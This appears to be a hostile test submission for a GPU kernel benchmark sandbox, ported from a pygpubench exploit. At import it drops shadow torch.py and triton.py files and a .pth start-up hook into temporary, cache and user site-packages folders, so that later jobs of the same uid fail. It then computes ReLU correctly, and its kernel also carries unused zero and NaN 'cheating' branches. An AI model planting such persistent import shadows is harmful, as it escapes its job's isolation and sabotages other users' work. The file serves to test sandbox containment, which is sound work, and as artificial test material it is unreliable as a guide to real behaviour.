# task: relu
# expect: pass
# device: both
# why: tries to leave shadow torch.py and triton.py modules (and a .pth start-up hook) where a later job of its uid might import from: its working folder, the user site folder, /var/tmp, /tmp, /dev/shm, the compile caches; ignores failures, computes right (pygpubench submission_replace_torch)
"""Port of gpu-mode/pygpubench exploits/submission_replace_torch.py: there the submission wrote
torch.py into its working directory, which the sandbox had to refuse. Here the shadows would
break a later job of the same slot (its honest control runs after it: pgb_control_after_replace_torch);
only new files are made (never one that exists), and a shadow breaks only the import it shadows."""
import os
import site
import tempfile
import ctypes
import struct
import time

import torch
import triton
import triton.language as tl

_SHADOW = "raise ImportError('shadowed by pgb_replace_torch, left by an earlier job')\n"


def _places() -> list:
    # Not sys.path or HOME at large: were the sandbox to fail, a shadow there would break the
    # machine's own Python, not only later jobs (the shared temporary folders are checked and
    # cleaned by the suite).
    places = [os.getcwd(), "/var/tmp", "/tmp", "/dev/shm", tempfile.gettempdir()]
    try:
        places.append(site.getusersitepackages())
    except Exception:
        pass
    for name in ("TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "XDG_CACHE_HOME"):
        if os.environ.get(name):
            places.append(os.environ[name])
    return places


def _leave_shadows() -> list:
    left = []
    for place in dict.fromkeys(_places()):
        for name, text in (("torch.py", _SHADOW), ("triton.py", _SHADOW), ("keval_hostile_marker_shadow.pth",
                                                                          "import keval_hostile_marker_missing\n")):
            path = os.path.join(place, name)
            try:
                os.makedirs(place, exist_ok=True)
                with open(path, "x") as f:  # never an existing file
                    f.write(text)
                left.append(path)
            except OSError:
                pass
    return left


_LEFT = _leave_shadows()


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr, MODE: tl.constexpr):
    # MODE 0: relu; 1: zeros; 2: NaN (what the cheating branches store)
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    if MODE == 0:
        y = tl.maximum(x, 0.0)
    elif MODE == 1:
        y = x * 0.0
    else:
        y = x * 0.0 + float("nan")
    tl.store(out_ptr + offs, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(x, out, mode=0, n=None):
    n = x.numel() if n is None else n
    _relu_kernel[(triton.cdiv(max(n, 1), 1024),)](x, out, n, BLOCK=1024, MODE=mode)
    return out


def _honest(x):
    x = x.contiguous()
    return _launch(x, torch.empty_like(x))


def relu(x):
    return _honest(x)
